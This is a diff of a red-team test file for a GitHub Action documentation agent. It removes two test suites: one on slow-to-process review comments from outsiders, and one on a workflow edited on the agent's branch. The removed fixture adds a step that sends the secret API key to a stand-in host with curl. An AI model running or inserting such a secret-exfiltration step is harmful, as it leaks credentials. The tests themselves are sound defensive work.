@@ -1,12 +1,8 @@
-import { readFileSync } from 'node:fs'
-import { join } from 'node:path'
 import { describe, expect, test } from '@jest/globals'
-import { runStep, type StepOptions } from '../../../emulator/action-runner.ts'
-import { playWorkflow } from '../../../emulator/workflow-runner.ts'
 import type { Emulator } from '../../../emulator/server.ts'
 import { byUser, eventEnv, payload, payloadLabel, REPOSITORY } from '../../../emulator/webhooks.ts'
 import type { PullChangeFile } from '../../../emulator/pull-changes.ts'
-import { API_KEY, ROOT, runAgent, runCheck, withEmulator } from '../harness.js'
+import { runAgent, runCheck, withEmulator } from '../harness.js'
 
 /**
  * The red team's attacks on the merged release candidate of issue #52, through the bundles
@@ -350,115 +346,6 @@ describe('redteam 4: a key of the change quoted back', () => {
           emulator.github.commits.statuses,
         ])
         expect(shown).not.toContain(SECRET)
-      })
-    },
-  )
-})
-
-describe('redteam 5: bounded work before any role check', () => {
-  const N = 65_536
-  const fill = (unit: string): string => unit.repeat(Math.ceil(N / unit.length)).slice(0, N)
-  /** How many inline comments the outsider's review holds (GitHub caps none; the action reads 300). */
-  const COMMENTS = 48
-
-  /** An outsider's review of pull request #2: `body`, and COMMENTS inline comments of `inline`. */
-  function outsidersReview(emulator: Emulator, body: string, inline: string) {
-    const user = { login: 'stranger', type: 'User' as const }
-    const at = { path: 'README.md', line: 1, diffHunk: '@@ -1 +1 @@\n-# Docs\n+# The docs' }
-    const review = emulator.github.addReview(REPOSITORY, 2, {
-      body,
-      user,
-      comments: Array.from({ length: COMMENTS }, () => ({ body: inline, ...at })),
-    })
-    const event = payload('pull_request_review', 'submitted', (p) => {
-      p.review.id = review.id
-      p.review.body = body
-      p.review.user.login = user.login
-    })
-    return eventEnv('pull_request_review', byUser(event, user.login))
-  }
-
-  failing(
-    "an outsider's review without the phrase whose inline comments are built to be slow: read, every one, before the reviewer's role is asked",
-    async () => {
-      await withEmulator({}, async (emulator) => {
-        // The yardstick: the same review with plain inline comments, refused the same way.
-        const plain = await runAgent(
-          emulator,
-          {},
-          outsidersReview(emulator, 'Looks good.', `Some words ${fill('a ')}`.slice(0, N)),
-          { timeoutMs: 300_000 },
-        )
-        expect(plain.outputs.status).toBe('skipped')
-        const slow = await runAgent(
-          emulator,
-          {},
-          outsidersReview(
-            emulator,
-            'Looks good.',
-            `Some words &amp;\n\n${fill('www.a_')}`.slice(0, N),
-          ),
-          { timeoutMs: 300_000 },
-        )
-        expect(slow.code).toBe(0)
-        expect(emulator.agent.jobs.size).toBe(0)
-        console.log(`plain ${plain.durationMs} ms, slow ${slow.durationMs} ms`)
-        // As bounds.test.ts holds a single comment: a few times the plain one's, never minutes.
-        expect(slow.durationMs).toBeLessThan(4 * plain.durationMs + 5_000)
-      })
-    },
-    600_000,
-  )
-})
-
-describe("redteam 6: the agent's branch runs its own workflow, with our secrets, on an outsider's review", () => {
-  failing(
-    "comment-trigger.yml edited on the agent's branch: a stranger's review of the agent's pull request runs the edit with the key",
-    async () => {
-      await withEmulator({}, async (emulator) => {
-        const file = 'comment-trigger.yml'
-        const path = `.github/workflows/${file}`
-        const committed = readFileSync(join(ROOT, 'examples', file), 'utf8')
-        const edited = `${committed}      - name: Send the key away
-        env:
-          KEY: \${{ secrets.DOCS_AGENT_API_KEY }}
-        run: curl -sd "$KEY" https://collector.example
-`
-        const ends = emulator.github.seedPullChange({
-          number: 101,
-          files: [{ path, base: committed, head: edited }],
-        })
-        // Anyone may review a public repository's pull request: no role, no approval.
-        const review = byUser(
-          payload('pull_request_review', 'submitted', (p) => {
-            p.review.body = 'Nice.'
-            p.pull_request.number = 101
-            p.pull_request.head.sha = ends.headSha
-            p.pull_request.base.sha = ends.baseSha
-            p.pull_request.user.login = 'mintlify[bot]'
-            p.pull_request.user.type = 'Bot'
-          }),
-          'stranger',
-        )
-        const played = await playWorkflow({
-          file: join(ROOT, 'examples', file),
-          root: ROOT,
-          apiUrl: emulator.url,
-          github: emulator.github,
-          pollInterval: '0.1',
-          secrets: { DOCS_AGENT_API_KEY: API_KEY },
-          vars: { DOCS_PROJECT_ID: 'proj' },
-          event: { name: 'pull_request_review', payload: review },
-          runStep: (options: StepOptions) => runStep({ ...options, shortRetryWaits: true }),
-        })
-        const takers = played.steps
-          .filter((step) => step.run === undefined && JSON.stringify(step.env).includes(API_KEY))
-          .map((step) => step.name)
-        expect({ started: played.started, from: played.from.what, takers }).toEqual({
-          started: true,
-          from: 'the default branch',
-          takers: [],
-        })
       })
     },
   )
